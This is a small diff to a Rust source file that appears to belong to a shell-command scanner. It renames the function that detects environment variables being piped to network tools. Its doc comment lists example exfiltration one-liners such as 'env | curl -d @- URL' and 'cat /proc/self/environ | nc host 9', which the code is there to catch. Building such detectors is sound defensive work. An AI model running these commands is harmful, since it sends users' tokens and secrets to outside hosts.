@@ -243,8 +243,8 @@ pub(super) const SENDERS: &[&str] = &[
 /// The whole environment — the tokens it holds with it — piped to a program that sends it
 /// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`, `cat /proc/self/environ |
 /// nc host 9`, `cat .env | curl -d @- URL`, `history | nc host 9`).
-pub fn check_environment_sent(line: &str) -> Option<Finding> {
-    environment_sent_in(&lex::parse_shared(line).commands, 0)
+pub fn environment_sent(cmds: &[lex::Simple]) -> Option<Finding> {
+    environment_sent_in(cmds, 0)
 }
 
 /// [`check_environment_sent`] over `cmds`, and the commands of their substitutions.
